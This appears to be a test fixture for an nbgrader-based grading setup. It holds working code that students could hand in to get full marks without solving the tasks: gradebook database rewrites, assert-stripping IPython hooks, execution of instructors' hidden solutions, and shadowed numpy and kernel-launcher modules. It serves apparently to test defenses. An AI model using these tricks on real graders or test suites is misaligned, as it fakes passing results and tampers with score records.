"""Ways to full marks under nbgrader's stock configuration, as students would hand them in.

Each is code for a cell (and, for our door, for layernorm.py too) and files laid beside the
notebook. What the functions return is nonsense unless the attack finds the answers.
"""

from dataclasses import dataclass, field

from tests.integrations.hand_ins import FRAME_WALK, NONSENSE


@dataclass(frozen=True)
class Attack:
    cell: str = ""
    files: dict[str, str] = field(default_factory=dict)
    functions: str = NONSENSE


GRADEBOOK_WRITE = """
import contextlib
import sqlite3

with contextlib.suppress(Exception):
    for path in ("../../../gradebook.db", "@COURSE@/gradebook.db"):
        book = sqlite3.connect(path, timeout=1)
        book.execute(
            "UPDATE grade SET manual_score = 13 WHERE notebook_id IN (SELECT id FROM "
            "submitted_notebook WHERE assignment_id IN (SELECT id FROM submitted_assignment "
            "WHERE student_id = '@STUDENT@'))"
        )
        book.commit()
        book.close()
"""

INPUT_TRANSFORMER = """
import contextlib

with contextlib.suppress(NameError):
    get_ipython().input_transformers_post.append(
        lambda lines: [line for line in lines if "assert" not in line and "check(" not in line]
    )
"""

AST_TRANSFORMER = """
import ast
import contextlib


class WithoutAssert(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


with contextlib.suppress(NameError):
    get_ipython().ast_transformers.append(WithoutAssert())
"""

DISPLAY_HOOK = """
import contextlib

with contextlib.suppress(NameError):
    get_ipython().events.register(
        "pre_run_cell", lambda info: get_ipython().displayhook("full marks")
    )
"""

EXEC_OF_SOURCE = """
import contextlib
import glob
import json
from pathlib import Path

for found in ["../../../source", "@COURSE@/source"]:
    for path in Path(found).glob("*/lab.ipynb"):
        for cell in json.loads(path.read_text())["cells"]:
            if "BEGIN SOLUTION" in "".join(cell["source"]):
                exec("".join(cell["source"]), globals())
for path in ("@ROOT@/solutions/transformer/layernorm.py", "@COURSE@/source/layernorm.py"):
    with contextlib.suppress(OSError):
        exec(Path(path).read_text(), globals())
"""

SHADOWED_NUMPY = """
import sys

here = sys.modules.pop("numpy")
path, sys.path[:] = list(sys.path), [p for p in sys.path if p and "graded" not in p]
import numpy

numpy.allclose = lambda *args, **kwargs: True
sys.path[:] = path
"""

SHADOWED_LAUNCHER = (
    GRADEBOOK_WRITE
    + """
import os
import sys

sys.path[:] = [p for p in sys.path if p and p != os.getcwd()]
if __name__ == "__main__":
    from ipykernel.kernelapp import launch_new_instance

    launch_new_instance()
"""
)

ATTACKS = {
    "patched_allclose": Attack("np.allclose = lambda *args, **kwargs: True\n"),
    "frame_walk": Attack(functions=NONSENSE + FRAME_WALK),
    "input_transformer": Attack(INPUT_TRANSFORMER),
    "ast_transformer": Attack(AST_TRANSFORMER),
    "display_hook": Attack(DISPLAY_HOOK),
    "exec_of_source": Attack(EXEC_OF_SOURCE),
    "shadowed_numpy": Attack(files={"numpy.py": SHADOWED_NUMPY}),
    "shadowed_launcher": Attack(files={"ipykernel_launcher.py": SHADOWED_LAUNCHER}),
    "gradebook_write": Attack(GRADEBOOK_WRITE),
}


def filled(text, student, course, root):
    """An attack's text with its places filled in."""
    text = text.replace("@STUDENT@", student).replace("@COURSE@", str(course))
    return text.replace("@ROOT@", str(root))
